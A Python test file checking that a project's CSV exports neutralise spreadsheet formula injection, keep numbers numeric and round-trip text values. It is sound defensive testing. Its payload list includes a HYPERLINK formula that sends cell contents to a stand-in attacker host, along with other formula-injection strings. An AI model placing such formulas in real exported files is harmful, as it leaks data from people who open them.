"""Every command that writes CSV: no cell is a formula, numbers are numbers, readers read back."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from hanse_client.inference.files import write_table
from hanse_common import spreadsheets
from hanse_common.audit.cli import app as audit
from hanse_common.privacy.accounting import SampledGaussianSteps
from hanse_common.privacy.charge import Charge, Release
from hanse_common.privacy.ledger import Ledger
from hanse_simulations.runs.folder import RunFolder

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
)
PLAIN = ("milk", "", "'quoted", "a=b", "0.5", "ü")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def formulas(text: str) -> list[str]:
    """Cells that a spreadsheet would compute; a number is none."""
    return [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS) and not number(cell)]


def number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell == cell.strip()


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_a_text_is_marked_and_comes_back(text):
    marked = spreadsheets.as_text(text)
    assert not marked.startswith(FORMULA_STARTS)
    assert spreadsheets.from_text(marked) == text
    assert (marked == text) == (text in PLAIN)


@given(st.text(alphabet="'=;\t\n-a\uff1d", max_size=8))
def test_no_separator_of_any_locale_begins_a_formula_and_every_text_comes_back(text):
    """Semicolons separate cells where a comma is the decimal point, and quotes do not help."""
    marked = spreadsheets.as_text(text)
    assert spreadsheets.from_text(marked) == text
    for separator in (";", "\n"):
        assert not any(cell.startswith(("=", "-", "\uff1d")) for cell in marked.split(separator))
    table = pl.DataFrame({"a": [text]})
    assert spreadsheets.as_texts(table)["a"].item() == marked
    assert spreadsheets.from_texts(spreadsheets.as_texts(table)).equals(table)


def frame() -> pl.DataFrame:
    texts = [*FORMULAS, *PLAIN]
    return pl.DataFrame(
        {
            "customer": texts,
            "score": [-3.5] * len(texts),
            "rank": pl.Series([-1] * len(texts), dtype=pl.Int32),
            "kind": pl.Series(texts, dtype=pl.Categorical),
        }
    )


def test_predictions_audiences_rankings_and_demand(tmp_path):
    """`hanse model predict`, `audience`, `demand` and the rest write by `write_table`."""
    path = tmp_path / "audience.csv"
    write_table(frame(), path, {})
    text = path.read_bytes().decode()
    assert formulas(text) == []
    assert "-3.5" in cells(text) and "-1" in cells(text)
    again = spreadsheets.from_texts(pl.read_csv(path))
    assert again["customer"].fill_null("").to_list() == frame()["customer"].to_list()


def test_parquet_is_as_it_was(tmp_path):
    path = tmp_path / "audience.parquet"
    write_table(frame(), path, {})
    assert pl.read_parquet(path)["customer"].to_list() == frame()["customer"].to_list()


def test_metrics_of_a_run_come_back(tmp_path):
    folder = RunFolder(tmp_path)
    row = {"arm": "=a", "round": 1, "split": "+s", "store": "-x", "metric": "@m"}
    folder.write_metrics([{**row, "value": -0.5, "weight": 3}])
    assert formulas(folder.metrics_csv.read_text()) == []
    assert folder.read_metrics().to_dicts()[0] == {**row, "value": -0.5, "weight": 3}


def test_a_ledgers_entries(tmp_path):
    place = tmp_path / "=cmd"
    place.mkdir()
    ledger = Ledger.open(place / "ledger.sqlite", None)
    steps = SampledGaussianSteps(noise_multiplier=4.0, sample_rate=0.1, count=1)
    release = Release(kind="train", mode="local")
    ledger.charge(Charge(steps=steps, target_delta=1e-6, release=release))
    done = CliRunner().invoke(audit, ["export", str(place)])
    assert done.exit_code == 0, done.output
    assert formulas(done.stdout) == [] and "'=cmd" in cells(done.stdout)


def test_no_other_place_writes_csv():
    """A new writer neutralises formulas too, and is named here."""
    root = Path(spreadsheets.__file__).parents[2]
    writers = set()
    for package in ("common", "client", "server", "simulations"):
        for path in (root / package).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Call):
                    name = ast.unparse(node.func).rpartition(".")[2]
                    if name in ("write_csv", "to_csv", "writer", "DictWriter", "sink_csv"):
                        writers.add(f"{path.relative_to(root)}: {name}")
    assert writers == {
        "common/hanse_common/audit/cli.py: DictWriter",
        "client/hanse_client/inference/files.py: write_csv",
        "simulations/hanse_simulations/runs/folder.py: write_csv",
        "simulations/hanse_simulations/datasets/freezing.py: write_csv",  # a table that ships
    }
